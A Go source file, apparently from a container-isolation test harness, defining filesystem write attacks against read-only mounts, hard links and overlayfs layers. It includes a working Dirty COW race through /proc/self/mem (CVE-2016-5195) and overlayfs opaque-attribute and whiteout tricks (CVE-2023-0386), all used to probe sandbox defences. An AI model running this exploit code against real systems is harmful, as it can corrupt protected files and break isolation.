package attack

import (
	"os"
	"sync"
	"unsafe"

	"golang.org/x/sys/unix"
)

var fsWriteAttacks = []Attack{
	ReadonlyRoot,
	RROSubmount,
	ProcMem,
	HardlinkHost,
	OverlayLower,
}

// change tries every way to change a directory that holds the files "file", "gone" and "moved".
func (a *Attempt) change(dir string) {
	a.Try("create "+dir+"/new", os.WriteFile(dir+"/new", []byte("new"), 0o600))
	a.Try("mkdir "+dir+"/newdir", unix.Mkdir(dir+"/newdir", 0o700))
	a.overwrite(dir + "/file")
	a.Try("truncate "+dir+"/file", unix.Truncate(dir+"/file", 0))
	a.Try("chmod "+dir+"/file", unix.Chmod(dir+"/file", 0o777))
	a.Try("rename "+dir+"/moved", unix.Rename(dir+"/moved", dir+"/elsewhere"))
	a.Try("unlink "+dir+"/gone", unix.Unlink(dir+"/gone"))
}

// ReadonlyRoot changes the directories Target.Paths in its root directory.
var ReadonlyRoot = Attack{Name: "fs.readonly-root", Run: func(a *Attempt) {
	for _, dir := range a.Target.Paths {
		a.change(a.Inside(dir))
	}
}}

// RROSubmount changes the directory Target.Path, on which something is mounted in a volume.
var RROSubmount = Attack{Name: "fs.rro-submount", Run: func(a *Attempt) { a.change(a.Inside(a.Target.Path)) }}

// ProcMem writes to the file Target.Path through /proc/self/mem, which writes to memory that
// the process itself may not write to, while another thread takes the pages away
// (CVE-2016-5195). It maps the file writable where it can be opened for that.
var ProcMem = Attack{Name: "fs.proc-mem", Run: func(a *Attempt) {
	path := a.Inside(a.Target.Path)
	prot := unix.PROT_READ | unix.PROT_WRITE
	fd, err := unix.Open(path, unix.O_RDWR|unix.O_CLOEXEC, 0)
	if !a.Try("open "+path+" for writing", err) {
		prot = unix.PROT_READ
		if fd, err = unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0); !a.Try("open "+path, err) {
			return
		}
	}
	mem, err := unix.Open("/proc/self/mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if !a.Try("open /proc/self/mem", err) {
		return
	}
	a.writeMapped(mem, fd, prot, unix.MAP_SHARED, "shared")
	a.writeMapped(mem, fd, prot, unix.MAP_PRIVATE, "private")
}}

func (a *Attempt) writeMapped(mem, fd, prot, flags int, name string) {
	m, err := unix.Mmap(fd, 0, unix.Getpagesize(), prot, flags)
	if !a.Try("mmap "+name, err) {
		return
	}
	defer unix.Munmap(m) //nolint:errcheck // it ends with the process
	at := int64(uintptr(unsafe.Pointer(&m[0])))
	const rounds = 500
	var other sync.WaitGroup
	other.Go(func() {
		for range rounds {
			_ = unix.Madvise(m, unix.MADV_DONTNEED)
		}
	})
	for range rounds {
		_, err = unix.Pwrite(mem, []byte("overwritten"), at)
	}
	other.Wait()
	a.Try("pwrite /proc/self/mem over a "+name+" mapping", err)
}

// HardlinkHost moves files of the directory Target.Path/a to Target.Path/b: by a hard link,
// after which it removes the original, and by a rename.
var HardlinkHost = Attack{Name: "fs.hardlink-host", Run: func(a *Attempt) {
	from, to := a.Inside(a.Target.Path+"/a"), a.Inside(a.Target.Path+"/b")
	if a.Try("link "+from+"/file", unix.Link(from+"/file", to+"/file")) {
		a.Try("unlink "+from+"/file", unix.Unlink(from+"/file"))
	}
	a.Try("renameat2 "+from+"/moved", unix.Renameat2(unix.AT_FDCWD, from+"/moved", unix.AT_FDCWD, to+"/moved", unix.RENAME_NOREPLACE))
}}

// OverlayLower changes the directory Target.Path of its image, in the ways of overlayfs too: a
// whiteout by hand, and the attributes that make a directory opaque (CVE-2023-0386).
var OverlayLower = Attack{Name: "fs.overlay-lower", Run: func(a *Attempt) {
	dir := a.Inside(a.Target.Path)
	for _, name := range []string{"trusted.overlay.opaque", "user.overlay.opaque"} {
		a.Try("setxattr "+name, unix.Setxattr(dir, name, []byte("y"), 0))
	}
	a.Try("mknod a whiteout", unix.Mknod(dir+"/whiteout", unix.S_IFCHR, 0))
	a.change(dir)
}}
